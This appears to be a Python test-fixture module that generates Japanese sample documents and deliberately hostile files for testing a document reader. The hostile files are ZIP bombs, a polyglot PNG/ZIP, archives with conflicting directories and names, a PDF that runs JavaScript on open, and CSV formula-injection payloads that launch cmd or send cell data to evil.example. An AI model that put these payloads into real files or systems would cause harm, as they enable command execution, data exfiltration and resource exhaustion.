"""Text, tables, pictures and archives of the samples, and the hostile files that are no office
documents."""
import struct
import zlib

from sampledocs import image, raw

LIST = [["番号", "氏名", "ふりがな", "生年月日", "電話", "増減", "備考"],
        ["001", "関所 太郎", "せきしょ たろう", "昭和55年3月14日", "042-000-0001", "-5", "班長"],
        ["002", "番所 花子", "ばんしょ はなこ", "平成元年1月8日", "+81420000002", "+12", ""],
        ["003", "峠 次郎", "とうげ じろう", "令和元年5月1日", "042-000-0003", "0",
         '=HYPERLINK("http://evil.example/?x="&B2,"詳細")'],
        ["004", "箱根 三郎", "はこね さぶろう", "S60.12.1", "042-000-0004", "1,200", "①㈱ ~―"]]


def quoted(text):
    return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\n') else text


def roster():
    lines = [",".join(quoted(c) for c in row) for row in LIST]
    return ("\r\n".join(lines) + "\r\n").encode("cp932")


def notice():
    text = """関所市からのお知らせ

令和8年度の市民健康診査を次のとおり行います。
 1 日時 令和8年6月1日(月)から7月31日(金)まで
 2 場所 市保健センター(小島町二丁目)
 3 費用 無料(40歳以上の国民健康保険加入者)
 4 申込 電話 042-000-0000 又は窓口

持ち物 ・受診券 ・マイナ保険証 又は資格確認書
"""
    return text.replace("\n", "\r\n").encode("iso-2022-jp")


def photo():
    """Stored on its side; orientation 6 says so."""
    width, height = 320, 240
    scene = image.town_hall(width, height)
    segments = image.exif(6, 35.6506, 139.5407, "SekishoCam-7") \
        + image.comment(b"SECRET-JPEG-COMMENT")
    return image.jpeg(height, width, lambda x, y: scene(y, height - 1 - x), segments, 0.6)


def plan():
    secret = zlib.compress(b"C:\\Users\\sekkei\\secret-plan.jww", 9)
    extra = (image.chunk(b"gAMA", struct.pack(">I", 45455))
             + image.chunk(b"pHYs", struct.pack(">IIB", 3780, 3780, 1))
             + image.chunk(b"tIME", struct.pack(">HBBBBB", 2026, 4, 1, 9, 0, 0))
             + image.chunk(b"tEXt", b"Author\0Secret-Draughtsman")
             + image.chunk(b"zTXt", b"Source\0\0" + secret)
             + image.chunk(b"iTXt", "Comment\0\0\0ja\0\0入札前の図面".encode()))
    return image.png(640, 420, image.floor_plan(640, 420), extra)


def way_out():
    """An arrow that walks along a corridor to the door."""
    def frame(step):
        def pixel(x, y):
            if 90 <= x < 110 and 8 <= y < 52:
                return 2
            if 24 <= y < 36 and step * 14 <= x < step * 14 + 10 + (6 - abs(y - 30)):
                return 1
            return 3 if y in (6, 53) else 0
        return pixel
    return image.gif(120, 60, [frame(i) for i in range(6)],
                     [(255, 255, 255), (200, 54, 44), (0, 122, 62), (90, 90, 90)],
                     b"Secret-Draughtsman", b"SECRET-BEHIND")


def fax():
    """Two pages with ruled lines and a seal."""
    stamp = image.seal(80)

    def page(number):
        def pixel(x, y):
            if 300 <= x < 380 and 20 <= y < 60:
                return stamp(x - 300, (y - 20) * 2) != (255, 255, 255)
            return (y % 24 == 0 and 30 <= x < 250 + number * 40) or (x in (20, 420) and y > 10)
        return pixel
    return image.fax(440, 150, [page(0), page(1)], b"Secret-Fax-Sender\0")


def bundle(members):
    """A ZIP as Windows in Japanese makes it: CP932 names, no UTF-8 flag."""
    return raw.zip_file([raw.entry(n.encode("cp932"), d, flags=0) for n, d in members])


def bomb(size):
    """One member that unfolds more than a thousandfold."""
    data = bytes(size)
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    e = raw.entry(b"zeros.txt", b"")
    e.update(data=data, packed=packed.compress(data) + packed.flush(), method=8,
             crc=zlib.crc32(data), local_size=size)
    return raw.zip_file([e])


def nested_bomb(depth):
    data = bomb(8 << 20)
    for level in range(depth):
        data = raw.zip_file([raw.entry(f"{level}-{i}.zip".encode(), data, flags=0)
                             for i in range(4 if level < 2 else 1)])
    return data


def two_directories():
    """Two complete directories: a reader from the front and one from the end see other files."""
    good = raw.entry("良.txt".encode(), "安全な文書\r\n".encode())
    evil = raw.entry("悪.txt".encode(), b"EVIL-SECOND-DIRECTORY\r\n")
    bodies, offsets = raw.zip_bodies([good, evil])
    first = raw.directory([good], offsets[:1], len(bodies))
    second = raw.directory([evil], offsets[1:], len(bodies) + len(first))
    return bodies + first + second


def disagreeing_names():
    members = [raw.entry(b"report.txt", b"EVIL-LOCAL-NAME\r\n", local_name=b"report.exe"),
               raw.entry(b"memo.txt", b"memo\r\n")]
    return raw.zip_file(members)


def png_and_zip():
    """A picture for one reader, an archive for another."""
    inside = raw.entry(b"evil.txt", b"EVIL-POLYGLOT\r\n")
    head = image.png(48, 48, image.seal(48))
    bodies, offsets = raw.zip_bodies([inside], len(head))
    return head + bodies + raw.directory([inside], offsets, len(head) + len(bodies))


def pdf():
    objects = [b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
               b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
               b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"]
    out, at = b"%PDF-1.7\n", []
    for i, o in enumerate(objects, 1):
        at.append(len(out))
        out += f"{i} 0 obj".encode() + o + b"endobj\n"
    start = len(out)
    out += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % a for a in at)
    return out + b"trailer<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % start


def flood():
    """A header that claims 65,536 x 65,536 pixels; the data end after a few rows."""
    head = struct.pack(">IIBBBBB", 65536, 65536, 8, 6, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + image.chunk(b"IHDR", head)
            + image.chunk(b"IDAT", zlib.compress(bytes(65536 * 4 + 1), 9))
            + image.chunk(b"IEND", b""))


def command_csv():
    return ("品名,数量\r\n=cmd|' /C calc'!A0,1\r\n+cmd|' /C calc'!A0,2\r\n@SUM(1+1)*cmd|' /C calc'"
            "!A0,-3\r\n\t=1+1,4\r\n=HYPERLINK(\"http://evil.example\"),5\r\n").encode()
